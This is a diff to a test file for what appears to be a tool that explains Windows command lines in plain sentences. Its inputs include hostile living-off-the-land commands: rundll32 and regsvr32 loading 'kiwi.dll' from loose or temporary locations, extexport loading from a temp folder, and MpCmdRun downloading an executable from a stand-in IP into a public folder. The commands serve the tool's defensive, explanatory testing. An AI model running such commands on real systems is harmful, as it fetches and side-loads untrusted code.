@@ -115,13 +115,10 @@ describe("a sentence", () => {
       "rundll32 kiwi.dll,Go",
       /It names this library without a folder, so the search path and the working directory decide/,
     ],
-    [
-      "regsvr32 C:\\Temp\\kiwi.dll",
-      /kiwi\.dll\. It loads this library, which lies loose in a temporary folder: what is unpacked there has a folder of its own\./,
-    ],
+    ["regsvr32 C:\\Temp\\kiwi.dll", /kiwi\.dll\. It loads this library, which lies loose in a temporary folder\./],
     [
       "extexport C:\\Windows\\Temp\\pkg a b",
-      /given: C:\\Windows\\Temp\\pkg\. It loads what is in this folder from a temporary folder, in which programs are not normally kept\./,
+      /given: C:\\Windows\\Temp\\pkg\. It loads what is in this folder, which lies loose in a temporary folder\./,
     ],
     [
       "MpCmdRun -DownloadFile -url http://198.51.100.7/a.exe -path C:\\Users\\Public\\k.exe",
